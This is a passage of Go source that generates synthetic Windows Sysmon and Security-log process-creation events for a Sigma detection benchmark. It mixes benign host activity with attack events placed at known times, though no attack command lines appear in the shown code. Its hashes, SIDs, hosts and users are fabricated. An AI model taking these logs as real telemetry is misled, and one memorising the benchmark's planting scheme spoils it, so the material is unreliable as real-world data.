package gen

import (
	"bufio"
	"fmt"
	"hash/fnv"
	"io"
	"math/rand/v2"
	"strings"
	"time"
)

// Windows process creation events, as Sysmon (event 1) and the Security log
// (4688) record them, for the Sigma benchmark: the everyday process mix of a
// domain's workstations and servers (service hosts, browsers, consoles,
// Office, updaters, developer tools) with plausible parents, accounts,
// integrity levels, hashes and command lines, and, planted among them at
// known times, attack events that Sigma rules of the public corpus detect.

// Source names which log wrote an event.
const (
	SourceSysmon   = "sysmon"   // Microsoft-Windows-Sysmon/Operational, event 1
	SourceSecurity = "security" // Security, event 4688
)

// Plant is an attack event written among the benign ones: the process the
// Sigma rule Rule detects. Fields left empty take the catalog's values for
// Image (OriginalFileName, Description, …) or a benign default.
type Plant struct {
	Rule              string // Sigma rule id the event is planted for
	Title             string // the rule's title, for reports
	Image             string
	OriginalFileName  string
	CommandLine       string
	ParentImage       string
	ParentCommandLine string
	CurrentDirectory  string
	IntegrityLevel    string // Sysmon's name: Medium, High, System
	System            bool   // runs as NT AUTHORITY\SYSTEM
}

// Planted is one planted event as written: the rule it was planted for and
// what identifies it in the archive (host.name and @timestamp, unique among
// the generated events).
type Planted struct {
	Rule   string    `json:"rule"`
	Title  string    `json:"title"`
	Source string    `json:"source"`
	Host   string    `json:"host"`
	Time   time.Time `json:"time"`
}

// WinProcOptions shape WindowsProcess.
type WinProcOptions struct {
	Options
	// Plants are written Repeat times each, every one both as Sysmon 1 and as
	// 4688, spread evenly over the output; nil writes benign events only.
	Plants []Plant
	Repeat int
}

// binary is an executable of the catalog: its path and PE version fields.
type binary struct {
	Path, OriginalFileName, Description, Product, Company, Version string
}

const (
	winProduct = "Microsoft® Windows® Operating System"
	winVersion = "10.0.19041.4355 (WinBuild.160101.0800)"
	ms         = "Microsoft Corporation"
)

var binaries = map[string]binary{}

func bin(path, ofn, desc, product, company, version string) string {
	binaries[strings.ToLower(path)] = binary{path, ofn, desc, product, company, version}
	return path
}

func winBin(path, ofn, desc string) string { return bin(path, ofn, desc, winProduct, ms, winVersion) }

var (
	services     = winBin(`C:\Windows\System32\services.exe`, "services.exe", "Services and Controller app")
	svchost      = winBin(`C:\Windows\System32\svchost.exe`, "svchost.exe", "Host Process for Windows Services")
	userinit     = winBin(`C:\Windows\System32\userinit.exe`, "USERINIT.EXE", "Userinit Logon Application")
	explorer     = winBin(`C:\Windows\explorer.exe`, "EXPLORER.EXE", "Windows Explorer")
	conhost      = winBin(`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Console Window Host")
	cmd          = winBin(`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Windows Command Processor")
	powershell   = winBin(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Windows PowerShell")
	runtimeBkr   = winBin(`C:\Windows\System32\RuntimeBroker.exe`, "RuntimeBroker.exe", "Runtime Broker")
	dllhost      = winBin(`C:\Windows\System32\dllhost.exe`, "dllhost.exe", "COM Surrogate")
	taskhostw    = winBin(`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Host Process for Windows Tasks")
	searchIdx    = winBin(`C:\Windows\System32\SearchIndexer.exe`, "SearchIndexer.exe", "Microsoft Windows Search Indexer")
	searchProto  = winBin(`C:\Windows\System32\SearchProtocolHost.exe`, "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host")
	searchFilter = winBin(`C:\Windows\System32\SearchFilterHost.exe`, "SearchFilterHost.exe", "Microsoft Windows Search Filter Host")
	wmiprvse     = winBin(`C:\Windows\System32\wbem\WmiPrvSE.exe`, "Wmiprvse.exe", "WMI Provider Host")
	bgTaskHost   = winBin(`C:\Windows\System32\backgroundTaskHost.exe`, "backgroundTaskHost.exe", "Background Task Host")
	rundll32     = winBin(`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Windows host process (Rundll32)")
	msiexec      = winBin(`C:\Windows\System32\msiexec.exe`, "msiexec.exe", "Windows® installer")
	smartscreen  = winBin(`C:\Windows\System32\smartscreen.exe`, "smartscreen.exe", "Windows Defender SmartScreen")
	sihost       = winBin(`C:\Windows\System32\sihost.exe`, "sihost.exe", "Shell Infrastructure Host")
	ctfmon       = winBin(`C:\Windows\System32\ctfmon.exe`, "CTFMON.EXE", "CTF Loader")
	wuauclt      = winBin(`C:\Windows\System32\wuauclt.exe`, "wuauclt.exe", "Windows Update")
	notepad      = winBin(`C:\Windows\System32\notepad.exe`, "NOTEPAD.EXE", "Notepad")
	chrome       = bin(`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "131.0.6778.86")
	msedge       = bin(`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "msedge.exe", "Microsoft Edge", "Microsoft Edge", ms, "131.0.2903.70")
	outlook      = bin(`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", ms, "16.0.17928.20156")
	winword      = bin(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "WinWord.exe", "Microsoft Word", "Microsoft Office", ms, "16.0.17928.20156")
	excel        = bin(`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "Excel.exe", "Microsoft Excel", "Microsoft Office", ms, "16.0.17928.20156")
	teams        = bin(`C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe`, "ms-teams.exe", "Microsoft Teams", "Microsoft Teams", ms, "24295.605.3225.8804")
	gitExe       = bin(`C:\Program Files\Git\cmd\git.exe`, "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.47.1.1")
	mpcmdrun     = bin(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", "Microsoft® Windows® Operating System", ms, "4.18.24090.11")
	googleUpd    = bin(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "GoogleUpdate.exe", "Google Installer", "Google Update", "Google LLC", "1.3.36.432")
	edgeUpd      = bin(`C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, "msedgeupdate.dll", "Microsoft Edge Update", "Microsoft Edge Update", ms, "1.3.195.35")
	sqlservr     = bin(`C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, "sqlservr.exe", "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", ms, "2022.160.4135.4")
)

// account kinds
const (
	acctUser = iota
	acctSystem
	acctLocalService
	acctNetworkService
)

// proc is one process creation, before it is written as an event.
type proc struct {
	image, cmdline, parent, parentCmd, curDir, integrity string
	originalFileName                                     string // overrides the catalog's
	account                                              int
}

// svchostCmd are service host command lines and the account they run as.
var svchostCmds = []struct {
	cmd     string
	account int
}{
	{`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k netsvcs -p -s UserManager`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k DcomLaunch -p`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k wsappx -p -s AppXSvc`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k utcsvc -p`, acctSystem},
	{`C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog`, acctLocalService},
	{`C:\Windows\system32\svchost.exe -k LocalServiceNoNetworkFirewall -p`, acctLocalService},
	{`C:\Windows\system32\svchost.exe -k LocalService -p -s FontCache`, acctLocalService},
	{`C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache`, acctNetworkService},
	{`C:\Windows\System32\svchost.exe -k NetworkService -p -s LanmanWorkstation`, acctNetworkService},
	{`C:\Windows\system32\svchost.exe -k RPCSS -p`, acctNetworkService},
	{`C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc`, acctUser},
	{`C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService`, acctUser},
}

const (
	dcomLaunch = `C:\Windows\system32\svchost.exe -k DcomLaunch -p`
	schedule   = `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
)

var (
	documents = []string{`Documents\Q3 forecast.xlsx`, `Documents\Board minutes 2026-02.docx`, `Downloads\invoice_88231.pdf`,
		`Documents\Roadmap.docx`, `Desktop\notes.txt`, `Documents\Budget FY27.xlsx`, `Documents\Onboarding checklist.docx`}
	sites    = []string{"https://intranet.corp.example/", "https://outlook.office.com/mail/", "https://github.com/", "https://docs.google.com/", "https://www.bbc.co.uk/news"}
	gitArgs  = []string{"status -z -uall", "fetch --prune", "log --oneline -n 20", "rev-parse --show-toplevel", "diff --cached --stat", "pull --ff-only", "branch --list"}
	psBenign = []string{"", " -NoLogo", " -NoProfile -Command Get-Service Spooler", " -NoProfile -Command Get-ChildItem C:\\Users\\%[1]s\\Documents", " -NoLogo -Command Get-Date"}
	dllhosts = []string{`{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`, `{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}`, `{3EB3C877-1F16-487C-9050-104DBCD66683}`}
)

// chromium writes a Chromium child process command line.
func chromium(r *rand.Rand, exe, dir string) string {
	switch r.IntN(4) {
	case 0:
		return fmt.Sprintf(`"%s" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%d --time-ticks-at-unix-epoch=-1772323200%06d --launch-time-ticks=%d --field-trial-handle=1900,i,%d,%d,262144 --variations-seed-version /prefetch:1`,
			exe, 5+r.IntN(400), r.IntN(1e6), r.IntN(1e10), r.Uint64()%1e19, r.Uint64()%1e19)
	case 1:
		return fmt.Sprintf(`"%s" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=network --string-annotations --field-trial-handle=1900,i,%d,%d,262144 --variations-seed-version /prefetch:8`,
			exe, r.Uint64()%1e19, r.Uint64()%1e19)
	case 2:
		return fmt.Sprintf(`"%s" --type=gpu-process --string-annotations --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== --field-trial-handle=1900,i,%d,%d,262144 --variations-seed-version /prefetch:2`,
			exe, r.Uint64()%1e19, r.Uint64()%1e19)
	default:
		return fmt.Sprintf(`"%s" --type=crashpad-handler "--user-data-dir=%s" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler --database=%s\Crashpad --annotation=plat=Win64 --annotation=prod=Chrome --annotation=ver=131.0.6778.86 --initial-client-data=0x%x,0x%x,0x%x,0x%x,0x%x,0x%x`,
			exe, dir, dir, 0xd0+r.IntN(64), 0xd4+r.IntN(64), 0xd8+r.IntN(64), 0xcc+r.IntN(64), 0xdc+r.IntN(64), 0x7ff6a0000000+r.IntN(1<<24))
	}
}

// benign draws one everyday process creation for user on a workstation or,
// with server, on a server.
func benign(r *rand.Rand, user string, server bool) proc {
	home := `C:\Users\` + user
	sys := proc{curDir: `C:\Windows\system32\`, integrity: "System", account: acctSystem}
	usr := proc{curDir: home + `\`, integrity: "Medium", account: acctUser}
	k := r.IntN(100)
	if server && k >= 40 && k < 75 {
		k = 0 // servers: more services, no browsers or Office
	}
	switch {
	case k < 18:
		s := svchostCmds[r.IntN(len(svchostCmds))]
		p := sys
		p.image, p.cmdline, p.parent, p.parentCmd, p.account = svchost, s.cmd, services, `C:\Windows\system32\services.exe`, s.account
		return p
	case k < 28:
		parent, parentCmd := cmd, `"C:\Windows\system32\cmd.exe"`
		switch r.IntN(3) {
		case 1:
			parent, parentCmd = powershell, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo`
		case 2:
			parent, parentCmd = gitExe, `"C:\Program Files\Git\cmd\git.exe" `+gitArgs[r.IntN(len(gitArgs))]
		}
		p := usr
		p.image, p.cmdline, p.parent, p.parentCmd = conhost, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, parent, parentCmd
		return p
	case k < 31:
		p := sys
		p.image, p.cmdline, p.parent, p.parentCmd = wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, svchost, dcomLaunch
		p.account = acctNetworkService
		return p
	case k < 34:
		p := sys
		p.image, p.cmdline, p.parent, p.parentCmd = searchProto, `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe12_ Global\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646 "Software\Microsoft\Windows Search" "DownLevelDaemon"`, searchIdx, `C:\Windows\system32\SearchIndexer.exe /Embedding`
		return p
	case k < 36:
		p := sys
		p.image, p.cmdline, p.parent, p.parentCmd = searchFilter, fmt.Sprintf(`"C:\Windows\system32\SearchFilterHost.exe" 0 %d %d %d 8192 %d %d`, 700+r.IntN(200), 700+r.IntN(200), 700+r.IntN(200), 700+r.IntN(200), 700+r.IntN(200)), searchIdx, `C:\Windows\system32\SearchIndexer.exe /Embedding`
		return p
	case k < 38:
		p := sys
		p.image, p.cmdline, p.parent, p.parentCmd = taskhostw, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, svchost, schedule
		if r.IntN(2) == 0 {
			p.account, p.integrity, p.curDir = acctUser, "Medium", `C:\Windows\system32\`
		}
		return p
	case k < 40:
		p := sys
		switch r.IntN(4) {
		case 0:
			p.image, p.cmdline, p.parent, p.parentCmd = mpcmdrun, `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate`, svchost, schedule
		case 1:
			p.image, p.cmdline, p.parent, p.parentCmd = googleUpd, `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler`, svchost, schedule
		case 2:
			p.image, p.cmdline, p.parent, p.parentCmd = edgeUpd, `"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /c`, svchost, schedule
		default:
			p.image, p.cmdline, p.parent, p.parentCmd = wuauclt, `"C:\Windows\system32\wuauclt.exe" /RunHandlerComServer`, svchost, dcomLaunch
		}
		return p
	case k < 52:
		p := usr
		dir := home + `\AppData\Local\Google\Chrome\User Data`
		p.image, p.parent = chrome, chrome
		p.parentCmd = `"C:\Program Files\Google\Chrome\Application\chrome.exe"`
		p.cmdline = chromium(r, chrome, dir)
		if r.IntN(8) == 0 {
			p.parent, p.parentCmd = explorer, `C:\Windows\Explorer.EXE`
			p.cmdline = `"C:\Program Files\Google\Chrome\Application\chrome.exe" ` + sites[r.IntN(len(sites))]
		} else if strings.Contains(p.cmdline, "renderer") {
			p.integrity = "Untrusted"
		}
		p.curDir = `C:\Program Files\Google\Chrome\Application\131.0.6778.86\`
		return p
	case k < 60:
		p := usr
		dir := home + `\AppData\Local\Microsoft\Edge\User Data`
		p.image, p.parent = msedge, msedge
		p.parentCmd = `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument ` + sites[r.IntN(len(sites))]
		p.cmdline = chromium(r, msedge, dir)
		if strings.Contains(p.cmdline, "renderer") {
			p.integrity = "Low"
		}
		p.curDir = `C:\Program Files (x86)\Microsoft\Edge\Application\131.0.2903.70\`
		return p
	case k < 64:
		p := usr
		p.image, p.cmdline, p.parent, p.parentCmd = runtimeBkr, `C:\Windows\System32\RuntimeBroker.exe -Embedding`, svchost, dcomLaunch
		p.curDir = `C:\Windows\system32\`
		return p
	case k < 67:
		p := usr
		p.image, p.cmdline, p.parent, p.parentCmd = dllhost, `C:\Windows\system32\DllHost.exe /Processid:`+dllhosts[r.IntN(len(dllhosts))], svchost, dcomLaunch
		p.curDir = `C:\Windows\system32\`
		return p
	case k < 69:
		p := usr
		p.image, p.cmdline, p.parent, p.parentCmd = bgTaskHost, `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmkmn5h2e7h0dwf2.mca`, svchost, dcomLaunch
		p.curDir = `C:\Windows\system32\`
		return p
	case k < 72:
		p := usr
		p.image, p.parent, p.parentCmd = gitExe, cmd, `"C:\Windows\system32\cmd.exe"`
		p.cmdline = `"C:\Program Files\Git\cmd\git.exe" ` + gitArgs[r.IntN(len(gitArgs))]
		p.curDir = home + `\source\repos\billing-api\`
		return p
	case k < 74:
		p := usr
		p.image, p.parent, p.parentCmd = teams, explorer, `C:\Windows\Explorer.EXE`
		p.cmdline = `"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated`
		return p
	case k < 75:
		p := usr
		doc := documents[r.IntN(len(documents))]
		switch {
		case strings.HasSuffix(doc, ".xlsx"):
			p.image, p.cmdline = excel, fmt.Sprintf(`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "%s\%s"`, home, doc)
		case strings.HasSuffix(doc, ".docx"):
			p.image, p.cmdline = winword, fmt.Sprintf(`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "%s\%s" /o ""`, home, doc)
		case strings.HasSuffix(doc, ".txt"):
			p.image, p.cmdline = notepad, fmt.Sprintf(`"C:\Windows\system32\NOTEPAD.EXE" %s\%s`, home, doc)
		default:
			p.image, p.cmdline = outlook, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `
		}
		p.parent, p.parentCmd = explorer, `C:\Windows\Explorer.EXE`
		return p
	case k < 80:
		p := usr
		if r.IntN(2) == 0 {
			p.image, p.cmdline = cmd, `"C:\Windows\system32\cmd.exe" `
		} else {
			p.image = powershell
			p.cmdline = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"` + fmt.Sprintf(psBenign[r.IntN(len(psBenign))], user)
		}
		p.parent, p.parentCmd = explorer, `C:\Windows\Explorer.EXE`
		return p
	case k < 83:
		p := sys
		if r.IntN(2) == 0 {
			p.image, p.cmdline, p.parent, p.parentCmd = rundll32, `C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`, svchost, `C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s PcaSvc`
		} else {
			p.image, p.cmdline, p.parent, p.parentCmd = msiexec, `C:\Windows\system32\msiexec.exe /V`, services, `C:\Windows\system32\services.exe`
		}
		return p
	case k < 86:
		p := usr
		switch r.IntN(4) {
		case 0:
			p.image, p.cmdline, p.parent, p.parentCmd = sihost, `sihost.exe`, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s UserManager`
		case 1:
			p.image, p.cmdline, p.parent, p.parentCmd = ctfmon, `"ctfmon.exe"`, svchost, `C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s TabletInputService`
		case 2:
			p.image, p.cmdline, p.parent, p.parentCmd = smartscreen, `C:\Windows\System32\smartscreen.exe -Embedding`, svchost, dcomLaunch
		default:
			p.image, p.cmdline, p.parent, p.parentCmd = explorer, `C:\Windows\Explorer.EXE`, userinit, `C:\Windows\system32\userinit.exe`
		}
		p.curDir = `C:\Windows\system32\`
		return p
	default:
		if server {
			p := sys
			p.image, p.cmdline, p.parent, p.parentCmd = sqlservr, `"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`, services, `C:\Windows\system32\services.exe`
			p.account = acctNetworkService
			return p
		}
		p := usr
		p.parent, p.parentCmd = explorer, `C:\Windows\Explorer.EXE`
		p.image, p.cmdline = chrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" `+sites[r.IntN(len(sites))]
		return p
	}
}

var winUsers = []string{"alice.martin", "bob.nguyen", "carol.diaz", "dave.okafor", "erin.schmidt", "frank.li", "grace.kim",
	"heidi.novak", "ivan.petrov", "judy.chen", "mallory.reed", "oscar.silva", "peggy.brown", "trent.walker", "victor.hugo"}

// winHost is one machine of the generated domain.
type winHost struct {
	name, short, user string
	server            bool
	sid               int
	machineGUID       uint32
}

func winHosts(n int) []winHost {
	hs := make([]winHost, max(n, 1))
	for i := range hs {
		h := winHost{short: fmt.Sprintf("WS%03d", i+1), user: winUsers[i%len(winUsers)], sid: 1105 + i%len(winUsers), machineGUID: uint32(0x94f748d5 + i*7919)}
		if i%10 == 9 {
			h.short, h.server = fmt.Sprintf("SRV%02d", i/10+1), true
		}
		h.name = h.short + ".corp.example"
		hs[i] = h
	}
	return hs
}

// hashes returns Sysmon's Hashes value for an executable: stable per path.
func hashes(path string) string {
	h := fnv.New128a()
	h.Write([]byte(strings.ToLower(path)))
	s := h.Sum(nil)
	hx := fmt.Sprintf("%X", s)
	h.Write([]byte("2"))
	hy := fmt.Sprintf("%X", h.Sum(nil))
	return fmt.Sprintf("SHA1=%s%s,MD5=%s,SHA256=%s%s,IMPHASH=%s", hx, hy[:8], hy, hx, hy, hx[:16]+hy[16:])
}

// xmlEsc escapes text for XML element content.
var xmlEsc = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;")

// WindowsProcess writes n process creation events as `wevtutil qe /f:xml`
// prints them (one <Event> per line, no root element): about half Sysmon 1,
// half Security 4688, over o.Hosts machines, in time order. Plants are written
// at evenly spaced positions among the n events (they count towards n); the
// planted events are returned.
func WindowsProcess(w io.Writer, n int, o WinProcOptions) ([]Planted, error) {
	r := rand.New(rand.NewPCG(o.Seed, o.Seed^0x6a09e667f3bcc908))
	bw := bufio.NewWriterSize(w, 1<<20)
	hosts := winHosts(o.Hosts)
	repeat := max(o.Repeat, 1)
	nPlants := 2 * repeat * len(o.Plants)
	if nPlants > n {
		return nil, fmt.Errorf("gen: %d events cannot hold %d planted events (%d plants × 2 logs × %d)", n, nPlants, len(o.Plants), repeat)
	}
	every := 0
	if nPlants > 0 {
		every = n / nPlants
	}
	// Times are in microseconds and strictly increasing, so that host and time
	// identify every event (the planted ones in particular).
	step := o.Span / time.Duration(max(n, 1))
	step = max(step.Truncate(time.Microsecond), 2*time.Microsecond)
	var planted []Planted
	var b strings.Builder
	prev := o.Start
	for i := 0; i < n; i++ {
		ts := o.Start.Add(step*time.Duration(i) + time.Duration(r.Int64N(int64(step/time.Microsecond)))*time.Microsecond/2).Truncate(time.Microsecond)
		if !ts.After(prev) {
			ts = prev.Add(time.Microsecond)
		}
		prev = ts
		h := hosts[r.IntN(len(hosts))]
		source := SourceSysmon
		if r.IntN(2) == 0 {
			source = SourceSecurity
		}
		var p proc
		if every > 0 && i%every == every/2 && i/every < nPlants {
			k := i / every
			pl := o.Plants[(k/2)%len(o.Plants)]
			source = []string{SourceSysmon, SourceSecurity}[k%2]
			h = hosts[(k*7)%len(hosts)]
			p = plantProc(pl, h)
			planted = append(planted, Planted{Rule: pl.Rule, Title: pl.Title, Source: source, Host: h.name, Time: ts})
		} else {
			p = benign(r, h.user, h.server)
		}
		b.Reset()
		pid, ppid := 4*(100+r.IntN(16000)), 4*(100+r.IntN(16000))
		if source == SourceSysmon {
			writeSysmon1(&b, r, h, p, ts, int64(i), pid, ppid)
		} else {
			write4688(&b, r, h, p, ts, int64(i), pid, ppid)
		}
		if _, err := bw.WriteString(b.String()); err != nil {
			return nil, err
		}
	}
	return planted, bw.Flush()
}

func plantProc(pl Plant, h winHost) proc {
	p := proc{image: pl.Image, cmdline: pl.CommandLine, parent: pl.ParentImage, parentCmd: pl.ParentCommandLine,
		curDir: pl.CurrentDirectory, integrity: pl.IntegrityLevel, account: acctUser}
	if p.parent == "" {
		p.parent, p.parentCmd = cmd, `"C:\Windows\system32\cmd.exe" `
	}
	if p.parentCmd == "" {
		p.parentCmd = `"` + p.parent + `"`
	}
	if p.curDir == "" {
		p.curDir = `C:\Users\` + h.user + `\`
	}
	if p.integrity == "" {
		p.integrity = "High"
	}
	if pl.System {
		p.account, p.integrity = acctSystem, "System"
	}
	p.originalFileName = pl.OriginalFileName
	return p
}

func accountName(h winHost, account int) (domain, user, sid string) {
	switch account {
	case acctSystem:
		return "NT AUTHORITY", "SYSTEM", "S-1-5-18"
	case acctLocalService:
		return "NT AUTHORITY", "LOCAL SERVICE", "S-1-5-19"
	case acctNetworkService:
		return "NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20"
	}
	return "CORP", h.user, fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", h.sid)
}

func guid(h winHost, r *rand.Rand) string {
	return fmt.Sprintf("{%08X-%04X-%04X-0000-0010%08X}", h.machineGUID, r.IntN(1<<16), r.IntN(1<<16), r.Uint32())
}

func writeSysmon1(b *strings.Builder, r *rand.Rand, h winHost, p proc, ts time.Time, rec int64, pid, ppid int) {
	bi := binaries[strings.ToLower(p.image)]
	if p.originalFileName != "" {
		bi = binary{OriginalFileName: p.originalFileName}
	}
	domain, user, _ := accountName(h, p.account)
	logonID := "0x3e7"
	switch p.account {
	case acctUser:
		logonID = fmt.Sprintf("0x%x", 0x2a0000+h.sid*37)
	case acctLocalService:
		logonID = "0x3e5"
	case acctNetworkService:
		logonID = "0x3e4"
	}
	session := 1
	if p.account != acctUser {
		session = 0
	}
	fmt.Fprintf(b, `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="3412" ThreadID="%d"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserID="S-1-5-18"/></System><EventData>`,
		ts.Format("2006-01-02T15:04:05.0000000Z"), 5_000_000+rec, 3000+r.IntN(4000), h.name)
	data := func(name, value string) {
		b.WriteString(`<Data Name="`)
		b.WriteString(name)
		b.WriteString(`">`)
		b.WriteString(xmlEsc.Replace(value))
		b.WriteString(`</Data>`)
	}
	data("RuleName", "-")
	data("UtcTime", ts.Format("2006-01-02 15:04:05.000"))
	data("ProcessGuid", guid(h, r))
	data("ProcessId", fmt.Sprint(pid))
	data("Image", p.image)
	data("FileVersion", or(bi.Version, "-"))
	data("Description", or(bi.Description, "-"))
	data("Product", or(bi.Product, "-"))
	data("Company", or(bi.Company, "-"))
	data("OriginalFileName", or(bi.OriginalFileName, "-"))
	data("CommandLine", p.cmdline)
	data("CurrentDirectory", p.curDir)
	data("User", domain+`\`+user)
	data("LogonGuid", fmt.Sprintf("{%08X-%04X-0000-0000-0020%08X}", h.machineGUID, h.sid, h.sid*37))
	data("LogonId", logonID)
	data("TerminalSessionId", fmt.Sprint(session))
	data("IntegrityLevel", p.integrity)
	data("Hashes", hashes(p.image))
	data("ParentProcessGuid", guid(h, r))
	data("ParentProcessId", fmt.Sprint(ppid))
	data("ParentImage", p.parent)
	data("ParentCommandLine", p.parentCmd)
	pd, pu, _ := accountName(h, p.account)
	data("ParentUser", pd+`\`+pu)
	b.WriteString("</EventData></Event>\n")
}

var mandatoryLabel = map[string]string{"Untrusted": "S-1-16-0", "Low": "S-1-16-4096", "Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}

func write4688(b *strings.Builder, r *rand.Rand, h winHost, p proc, ts time.Time, rec int64, pid, ppid int) {
	domain, user, sid := accountName(h, p.account)
	logonID := "0x3e7"
	if p.account == acctUser {
		logonID = fmt.Sprintf("0x%x", 0x2a0000+h.sid*37)
	} else {
		// Services are created by the machine account.
		domain, user, sid = "CORP", h.short+"$", "S-1-5-18"
	}
	elevation := "%%1938"
	if p.integrity == "High" {
		elevation = "%%1937"
	} else if p.account != acctUser {
		elevation = "%%1936"
	}
	fmt.Fprintf(b, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='%d'/><Channel>Security</Channel><Computer>%s</Computer><Security/></System><EventData>",
		ts.Format("2006-01-02T15:04:05.0000000Z"), 9_000_000+rec, 1000+r.IntN(9000), h.name)
	data := func(name, value string) {
		b.WriteString("<Data Name='")
		b.WriteString(name)
		b.WriteString("'>")
		b.WriteString(xmlEsc.Replace(value))
		b.WriteString("</Data>")
	}
	data("SubjectUserSid", sid)
	data("SubjectUserName", user)
	data("SubjectDomainName", domain)
	data("SubjectLogonId", logonID)
	data("NewProcessId", fmt.Sprintf("0x%x", pid))
	data("NewProcessName", p.image)
	data("TokenElevationType", elevation)
	data("ProcessId", fmt.Sprintf("0x%x", ppid))
	data("CommandLine", p.cmdline)
	data("TargetUserSid", "S-1-0-0")
	data("TargetUserName", "-")
	data("TargetDomainName", "-")
	data("TargetLogonId", "0x0")
	data("ParentProcessName", p.parent)
	data("MandatoryLabel", mandatoryLabel[or(p.integrity, "Medium")])
